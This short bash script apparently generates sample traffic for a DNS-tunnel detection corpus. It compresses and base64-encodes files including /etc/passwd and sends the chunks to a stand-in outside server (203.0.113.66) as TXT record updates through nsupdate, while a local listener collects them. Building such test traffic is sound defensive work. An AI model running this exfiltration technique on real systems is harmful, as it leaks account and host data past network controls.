#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=nsupdate far=out ready=out:53 seconds=24 parts=dns
# nsupdate tells a server outside new TXT records of its zone: each of them carries a piece of a file.
if [ "$1" = out ]; then exec timeout 40 python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("203.0.113.66", 53))
while True:
    m, who = s.recvfrom(4096); open(sys.argv[1], "ab").write(m); s.sendto(m[:2] + bytes([m[2] | 0x80]) + m[3:], who)' "$LAB/got"; fi
sleep 1; n=0; (echo 'server 203.0.113.66'; echo 'zone dyn.example.org'; gzip -c /usr/share/dict/words /etc/services /etc/passwd 2>/dev/null | head -c 16000 | base64 -w 200 | while read -r line; do n=$((n + 1)); echo "update add h$n.dyn.example.org 60 TXT \"$line\""; echo send; done) >"$LAB/updates"
timeout 20 nsupdate "$LAB/updates"; sleep 2; [ "$(stat -c %s "$LAB/got")" -gt 8000 ]
